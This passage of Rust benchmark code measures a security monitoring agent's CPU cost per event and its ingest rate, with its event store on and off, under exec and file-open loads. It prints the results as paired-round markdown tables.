    store: bool,
    backlog: bool,
    policy: &str,
    file: &str,
) -> [Load; 2] {
    let mut args = vec!["--policy", policy, "--ringbuf-size", BACKLOG_RING_MIB];
    if !store {
        args.push("--no-store");
    }
    let agent = Agent::start(&args);
    // 6000 events: the store has trained its dictionary (once per database) before measuring.
    child("--exec-loop", "3000");
    let mut before = (settle(rt, &agent), agent_cpu(agent.pid()));
    let mut out = [Load::default(); 2];
    let execs = if backlog { BACKLOG_EXECS } else { EXECS }.to_string();
    let loads = [("--exec-loop", &*execs), ("--open-loop", file)];
    for (i, (mode, arg)) in loads.into_iter().enumerate() {
        let [rate, pipeline] = storm(rt, &agent, mode, arg, backlog);
        let after = (settle(rt, &agent), agent_cpu(agent.pid()));
        let d = |j: usize| (after.0[j] - before.0[j]) as f64;
        let cpu = |j: usize| after.1[j] - before.1[j];
        out[i] = [cpu(0), cpu(1), d(0), d(1), d(2), rate, cpu(2), pipeline];
        before = after;
    }
    agent.stop_raw();
    out
}

/// 4: the agent's CPU per event with and without the store, rounds alternating.
fn agent_rows(rounds: usize, only_backlog: bool) {
    vigil_tests::require_root();
    let dir = TempDir::new("bench-store-agent");
    let file = dir.path().join("watched.txt");
    std::fs::write(&file, "x").unwrap();
    let policy = dir.path().join("post-opens.yaml");
    std::fs::write(&policy, format!("apiVersion: cilium.io/v1alpha1\nkind: TracingPolicy\nmetadata:\n  name: bench-post-opens\nspec:\n  lsmhooks:\n  - hook: file_open\n    args:\n    - index: 0\n      type: file\n    selectors:\n    - matchArgs:\n      - index: 0\n        operator: Equal\n        values:\n        - {}\n      matchActions:\n      - action: Post\n", file.display())).unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let (policy, file) = (policy.to_str().unwrap(), file.to_str().unwrap());
    for backlog in [true, false] {
        if !backlog && only_backlog {
            break;
        }
        agent_table(&rt, rounds, backlog, policy, file);
    }
}

/// 4, one way of feeding the agent: a backlog it drains (the verdicts), or a live storm.
fn agent_table(
    rt: &tokio::runtime::Runtime,
    rounds: usize,
    backlog: bool,
    policy: &str,
    file: &str,
) {
    let (mut off, mut on) = (Vec::new(), Vec::new());
    for _ in 0..rounds {
        off.push(agent_round(rt, false, backlog, policy, file));
        on.push(agent_round(rt, true, backlog, policy, file));
    }
    let how = if backlog {
        "draining a backlog: the agent stopped while the workload runs, its events left in the ring buffer, then let go; the pipeline's own speed"
    } else {
        "live: the workload, the loop and the writer share both CPUs; what a storm costs beside the workload"
    };
    println!("\n| the agent ({how}; median of {rounds} rounds, alternating; ratio: the median of each pair's) | --no-store | store on | ratio | |");
    println!("|---|---|---|---|---|");
    let loads = [
        format!(
            "{} execs of /bin/true on 2 threads (exec + exit events)",
            if backlog { BACKLOG_EXECS } else { EXECS }
        ),
        format!("{OPENS} opens of a file a policy posts (a process_lsm event each)"),
    ];
    for (i, what) in loads.iter().enumerate() {
        let us = |r: &[Load; 2], j: usize| r[i][j] / r[i][2].max(1.0) * 1e6;
        let per = |v: &[[Load; 2]], j| median(v.iter().map(|r| us(r, j)).collect());
        let all = |v: &[[Load; 2]], j| {
            let v: Vec<String> = v.iter().map(|r| format!("{:.1}", us(r, j))).collect();
            v.join(", ")
        };
        // Each round with the store is compared with the round without it just before it (the
        // machine drifts between rounds more than within a pair), and the ratio is the median
        // of the pairs'.
        let paired = |f: &dyn Fn(&[Load; 2]) -> f64| {
            median(off.iter().zip(&on).map(|(a, b)| f(b) / f(a)).collect())
        };
        let rate = |v: &[[Load; 2]], j: usize| median(v.iter().map(|r| r[i][j]).collect());
        // The bars hold where the pipeline is measured alone; live, the same figures say what
        // the writer's thread takes from a workload that fills both CPUs.
        let verdict = |ok: bool, bar: &str| match (backlog, ok) {
            (true, true) => format!("PASS against {bar}"),
            (true, false) => format!("FAIL against {bar}"),
            (false, _) => String::new(),
        };
        let (ra, rb, rr) = (rate(&off, 7), rate(&on, 7), paired(&|r| r[i][7]));
        let since = if backlog {
            "from its release"
        } else {
            "from the storm's start"
        };
        println!("| {what}: **ingest rate**, events through the pipeline per second ({since} to the last event's delivery to the export file) | {ra:.0}/s | {rb:.0}/s | {rr:.3} | {} |", verdict(rr >= 0.90, "0.90"));
        if !backlog {
            let (wa, wb, wr) = (rate(&off, 5), rate(&on, 5), paired(&|r| r[i][5]));
            println!("| same: the workload's own rate (operations per second; what the agent's threads take from it on two CPUs) | {wa:.0}/s | {wb:.0}/s | {wr:.3} | |");
        }
        let (la, lb) = (per(&off, 6), per(&on, 6));
        let lr = paired(&|r| us(r, 6));
        println!("| same: **the pipeline's CPU per event** (the agent's loop: ring buffer, enrichment, encoding, every output's queue) | {la:.1} µs ({}) | {lb:.1} µs ({}) | {lr:.3} | {} |", all(&off, 6), all(&on, 6), verdict(lr <= 1.10, "1.10"));
        let (a, b) = (per(&off, 0), per(&on, 0));
        println!("| same: the whole process's CPU per event (the loop, the outputs' threads, the store's writer) | {a:.1} µs | {b:.1} µs | {:.3} | the store's writer thread: {:.1} µs per event |", b / a, per(&on, 1));
        let sum = |j: usize| on.iter().map(|r| r[i][j]).sum::<f64>();
        // Each round's shed events: a writer that fell far behind in some rounds only shows
        // here, not in the medians.
        let shed: Vec<String> = on.iter().map(|r| format!("{:.0}", r[i][4])).collect();
        println!("| same: events published, stored | {:.0} | {:.0} | | store: {} committed, {} shed, all rounds (shed by round: {}) |",
            median(off.iter().map(|r| r[i][2]).collect()), median(on.iter().map(|r| r[i][2]).collect()), sum(3), sum(4), shed.join(", "));
    }
}

/// The children: `--open-loop FILE` opens FILE OPENS times, `--exec-loop N` runs /bin/true N
/// times on 2 threads; each prints its rate.
fn child_loop(mode: &str, arg: &str) {
    let start = Instant::now();
    let n = if mode == "--open-loop" {
        (0..OPENS).for_each(|_| drop(std::fs::File::open(arg).expect("open")));
        OPENS
    } else {
        let n: usize = arg.parse().unwrap();
        let run = || {
            (0..n / 2).for_each(|_| assert!(Command::new("/bin/true").status().unwrap().success()))
        };
        std::thread::scope(|s| [s.spawn(run), s.spawn(run)].map(|t| t.join().unwrap()));
        n
    };
    println!("{}", n as f64 / start.elapsed().as_secs_f64());
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if let (Some(mode @ ("--open-loop" | "--exec-loop")), Some(arg)) =
        (args.get(1).map(String::as_str), args.get(2))
    {
        return child_loop(mode, arg);
    }
    let flag = |name: &str| {
        args.iter()
            .position(|a| a == name)
            .map(|i| args[i + 1].clone())
    };
    let n: u64 = flag("--events")
        .or_else(|| std::env::var("VIGIL_BENCH_STORE_EVENTS").ok())
        .map_or(10_000_000, |s| {
            s.replace('_', "").parse().expect("--events N")
        });
    assert!(n >= 100_000, "--events: at least 100000");
    let temp = TempDir::new("bench-store");
    let dir: PathBuf = flag("--dir").map_or_else(|| temp.path().to_path_buf(), PathBuf::from);
    let fresh = !dir.join("store").exists() && !dir.join("ingest").exists();
    assert!(fresh, "{} holds a store already", dir.display());
    println!("vigil-bench-store: {n} events, in {}", dir.display());
    println!("\n| the store | |\n|---|---|");
    // One part alone, while it is being worked on.
    if args.iter().any(|a| a == "--compression-only") {
        return compression();
    }
    let rounds = flag("--rounds").map_or(ROUNDS, |r| r.parse().expect("--rounds N"));
    let only_backlog = args.iter().any(|a| a == "--backlog-only");
    if args.iter().any(|a| a == "--agent-only") {
        return agent_rows(rounds, only_backlog);
    }
    ingest(&dir, n);
    compression();
    let g = build(&dir.join("store"), n);
    queries(&dir.join("store").join(vigil_store::DB_FILE), &g);
    if !args.iter().any(|a| a == "--no-agent") {
        agent_rows(rounds, only_backlog);
    }
}
